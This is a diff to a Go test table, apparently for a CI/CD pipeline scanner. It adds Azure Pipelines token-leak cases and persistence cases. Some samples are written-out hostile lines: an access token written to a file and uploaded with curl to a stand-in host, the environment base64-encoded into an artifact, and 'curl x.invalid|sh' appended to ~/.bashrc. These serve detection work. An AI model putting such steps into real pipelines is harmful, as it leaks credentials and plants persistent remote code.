@@ -204,6 +204,9 @@ var registry = []Rule{
 			// grep keeping the variables of one prefix that names no credential: build info, not secrets.
 			{".gitlab-ci.yml", "release:\n  script:\n    - printenv | grep -E '^CI_COMMIT' > build-info.env\n    - curl --fail --upload-file build-info.env \"$RELEASE_URL/build-info.env\"", 0, true},
 			{"x.sh", "env | grep TOKEN > t.txt\ncurl -T t.txt https://x.invalid/u", 2, false},
+			// Azure Pipelines' macros are the variables' values: the job's token written out and sent.
+			{"azure-pipelines.yml", "steps:\n- script: |\n    echo \"$(System.AccessToken)\" > t.txt\n    curl -sT t.txt https://x.invalid/u", 4, false},
+			{"azure-pipelines.yml", "steps:\n- script: |\n    curl -fsSL -H \"Authorization: Bearer $(System.AccessToken)\" \"$(System.CollectionUri)_apis/build/builds?api-version=7.0\"\n    echo \"##vso[task.setvariable variable=STAMP]$(date +%s)\"", 0, true},
 			// An artifact whose folder holds a file the environment was written into.
 			{".github/workflows/w.yml", "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: printenv -0 | base64 -w0 > diag/env.b64\n      - uses: actions/upload-artifact@v4\n        with:\n          name: diag\n          path: diag/", 10, false},
 			{".github/workflows/w.yml", "on: pull_request\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: go test ./... > diag/test.log\n      - uses: actions/upload-artifact@v4\n        with:\n          name: diag\n          path: diag/", 0, true},
@@ -256,6 +259,10 @@ var registry = []Rule{
 	{"persistence", KindExecute, High, "installs something that runs again later (cron, systemd, shell profile, keys)",
 		"it outlives this job: the next job on the runner, another project's included, runs it too", []Case{
 			{"x.sh", "echo 'curl x.invalid|sh' >> ~/.bashrc", 0, false},
+			{"x.sh", "sudo cp agent.service /etc/systemd/system/agent.service", 0, false},
+			// A tree under a prefix is not the system's: read or named, not installed.
+			{"install.sh", "p_sh=$NIX_LINK/etc/profile.d/nix.sh\n. \"$nix/etc/profile.d/nix.sh\"", 0, true},
+			{"Makefile", "install:\n\tinstall -m644 t.service $(DESTDIR)/etc/systemd/system/t.service", 0, true},
 			{"x.js", "const rc = path.join(os.homedir(), '.bashrc')\nfs.appendFileSync(rc, line)", 2, false},
 			{"x.py", "with open(os.path.expanduser('~/.zshrc'), 'a') as f:", 0, false},
 			{"x.sh", "echo hi | tee -a ~/.profile", 0, false},
